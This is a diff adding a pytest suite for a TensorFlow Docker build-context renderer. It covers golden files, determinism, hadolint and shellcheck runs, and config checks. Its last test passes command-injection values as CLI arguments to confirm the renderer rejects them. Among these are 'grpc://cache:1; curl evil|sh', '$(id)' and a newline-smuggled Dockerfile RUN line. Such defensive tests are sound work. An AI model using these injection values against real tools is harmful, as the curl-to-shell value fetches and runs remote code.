@@ -1,0 +1,203 @@
+"""Rendering: golden files, determinism, linters on every recipe x variant, config and injection checks.
+
+Regenerate the golden files after an intended change with ``make golden`` (TFBUILD_UPDATE_GOLDEN=1),
+then review the diff.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import os
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import ROOT, cpuinfo_fixture, run_cli
+from tfbuild.detect.cpuinfo import read_cpuinfo
+from tfbuild.plan import GIB, HostFacts, PlanOptions, make_plan
+from tfbuild.recipes import load_base_images, load_recipes
+from tfbuild.render import FILES, render_files, undefined_configs, write_context
+
+GOLDEN = Path(__file__).parent / "golden"
+UPDATE = os.environ.get("TFBUILD_UPDATE_GOLDEN") == "1"
+BIN = Path(sys.executable).parent
+
+
+def fixed_host(machine: str = "zen5-vm", **changes: object) -> HostFacts:
+    facts = HostFacts(
+        machine=read_cpuinfo(cpuinfo_fixture(machine)),
+        machine_is_build_host=True,
+        build_cpus=2,
+        build_memory_bytes=8 * GIB,
+        build_disk_path="/cache",
+        build_disk_free_bytes=200 * GIB,
+        python="3.11",
+    )
+    return dataclasses.replace(facts, **changes)  # type: ignore[arg-type]
+
+
+def render(version: str, options: PlanOptions, facts: HostFacts | None = None) -> dict[str, str]:
+    recipe = load_recipes().get(version)
+    plan = make_plan(options, recipe, facts or fixed_host(), base_images=load_base_images())
+    return render_files(plan)
+
+
+# name -> (version, options, host machine)
+CASES = {
+    "tf2.21-mkl-zen5": ("2.21", PlanOptions(tf="2.21", variant="mkl"), "zen5-vm"),
+    "tf2.21-cuda-x86_64_v3": ("2.21", PlanOptions(tf="2.21", variant="cuda", target="x86_64_v3"), "zen5-vm"),
+    "tf2.21-openmp-sapphirerapids": (
+        "2.21", PlanOptions(tf="2.21", variant="mkl", mkl_threading="openmp"), "sapphirerapids",
+    ),
+    "tf2.18-cpu-haswell": ("2.18", PlanOptions(tf="2.18", variant="cpu"), "haswell"),
+    "tf2.16-mkl-zen4": ("2.16", PlanOptions(tf="2.16", variant="mkl"), "zen4"),
+    "tf2.16-cuda-x86_64_v3": ("2.16", PlanOptions(tf="2.16", variant="cuda", target="x86_64_v3"), "zen4"),
+    "tf2.13-cpu-skylake": ("2.13", PlanOptions(tf="2.13", variant="cpu"), "skylake_avx512"),
+}  # fmt: skip
+
+
+def _shipped(version: str) -> bool:
+    return version in {r.short for r in load_recipes().recipes}
+
+
+@pytest.mark.parametrize("case", sorted(CASES))
+def test_golden(case: str) -> None:
+    version, options, machine = CASES[case]
+    if not _shipped(version):
+        pytest.fail(f"no shipped recipe for {version}")
+    files = render(version, options, fixed_host(machine))
+    directory = GOLDEN / case
+    if UPDATE:
+        shutil.rmtree(directory, ignore_errors=True)
+        write_context(files, directory)
+    for name, text in files.items():
+        expected = (directory / name).read_text()
+        assert text == expected, f"{case}/{name} differs from the golden file (make golden)"
+
+
+def test_rendering_is_byte_identical_across_processes(tmp_path: Path) -> None:
+    code = (
+        "import sys, dataclasses\n"
+        "from tests.render.test_render import render, fixed_host\n"
+        "from tfbuild.plan import PlanOptions\n"
+        "files = render('2.21', PlanOptions(tf='2.21', variant='mkl'))\n"
+        "sys.stdout.write(''.join(files[k] for k in sorted(files)))\n"
+    )
+    outputs = set()
+    for seed in ("1", "2"):
+        env = {**os.environ, "PYTHONHASHSEED": seed, "TZ": "Asia/Tokyo" if seed == "1" else "UTC"}
+        out = subprocess.run(
+            [sys.executable, "-c", code],
+            capture_output=True,
+            text=True,
+            env=env,
+            cwd=ROOT,
+            check=True,
+        ).stdout
+        outputs.add(out)
+    assert len(outputs) == 1
+
+
+def _all_contexts() -> list[tuple[str, dict[str, str]]]:
+    result = []
+    for recipe in load_recipes().recipes:
+        variants = ["cpu", "mkl"] + (["cuda"] if recipe.cuda is not None else [])
+        for variant in variants:
+            options = PlanOptions(tf=recipe.short, variant=variant)  # type: ignore[arg-type]
+            result.append((f"{recipe.short}-{variant}", render(recipe.short, options)))
+    return result
+
+
+CONTEXTS = _all_contexts()
+
+
+@pytest.mark.parametrize(("name", "files"), CONTEXTS, ids=[n for n, _ in CONTEXTS])
+def test_every_dockerfile_passes_hadolint(name: str, files: dict[str, str], tmp_path: Path) -> None:
+    dockerfile = tmp_path / "Dockerfile"
+    dockerfile.write_text(files["Dockerfile"])
+    result = subprocess.run(
+        [str(BIN / "hadolint"), "--no-color", str(dockerfile)],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+@pytest.mark.parametrize(("name", "files"), CONTEXTS, ids=[n for n, _ in CONTEXTS])
+def test_every_build_script_passes_shellcheck(
+    name: str, files: dict[str, str], tmp_path: Path
+) -> None:
+    script = tmp_path / "build.sh"
+    script.write_text(files["build.sh"])
+    result = subprocess.run(
+        [str(BIN / "shellcheck"), "--severity=style", str(script)],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+@pytest.mark.parametrize(("name", "files"), CONTEXTS, ids=[n for n, _ in CONTEXTS])
+def test_no_buildkit_only_syntax(name: str, files: dict[str, str]) -> None:
+    dockerfile = files["Dockerfile"]
+    assert not re.search(r"^\s*#\s*syntax=", dockerfile, re.MULTILINE)
+    assert "--mount=" not in dockerfile
+    assert "--checksum=" not in dockerfile
+    assert not re.search(r"<<-?\s*['\"]?[A-Z]+", dockerfile), "heredocs need BuildKit"
+
+
+@pytest.mark.parametrize(("name", "files"), CONTEXTS, ids=[n for n, _ in CONTEXTS])
+def test_every_config_used_is_defined(name: str, files: dict[str, str]) -> None:
+    version = name.split("-")[0]
+    recipe = load_recipes().get(version)
+    assert undefined_configs(files, recipe) == []
+    used = set(re.findall(r"--config=([A-Za-z0-9_]+)", files["build.sh"]))
+    assert "opt" in used
+    assert "build:opt --copt=" in files["tf_configure.bazelrc"]
+    for gone in ("avx2_linux", "native_arch_linux", "noaws", "nohdfs"):
+        assert gone not in used
+
+
+def test_undefined_config_is_caught() -> None:
+    recipe = load_recipes().get("2.21")
+    files = render("2.21", PlanOptions(tf="2.21", variant="mkl"))
+    files["build.sh"] = files["build.sh"].replace(
+        "--config=opt", "--config=opt \\\n  --config=avx2_linux"
+    )
+    assert undefined_configs(files, recipe) == ["avx2_linux"]
+
+
+def test_render_writes_every_file_and_an_executable_script(tmp_path: Path) -> None:
+    out = tmp_path / "ctx"
+    result = run_cli("render", "--tf", "2.21", "--mkl", "-o", str(out), "--skip-disk-check")
+    assert result.returncode == 0, result.stderr
+    assert sorted(p.name for p in out.iterdir()) == sorted(FILES)
+    assert os.access(out / "build.sh", os.X_OK)
+    assert not any(p.name.startswith(".") for p in out.iterdir()), "no temp files left behind"
+
+
+@pytest.mark.parametrize(
+    ("args", "fragment"),
+    [
+        (["--remote-cache", "grpc://cache:1; curl evil|sh"], "is not a plain URL"),
+        (["--cache-volume", "$(id)"], "is not a Docker volume name"),
+        (["--python", "3.11\nRUN x"], "cannot be built for Python"),
+        (["--cuda-capabilities", "sm_90;id"], "not a compute capability"),
+    ],
+)
+def test_hostile_cli_values_never_reach_the_files(
+    args: list[str], fragment: str, tmp_path: Path
+) -> None:
+    extra = ["--cuda"] if "--cuda-capabilities" in args else ["--mkl"]
+    result = run_cli(
+        "render", "--tf", "2.21", *extra, *args, "-o", str(tmp_path / "ctx"), "--skip-disk-check"
+    )
+    assert result.returncode in (2, 4), result.stderr
+    assert fragment in result.stderr
+    assert not (tmp_path / "ctx").exists()
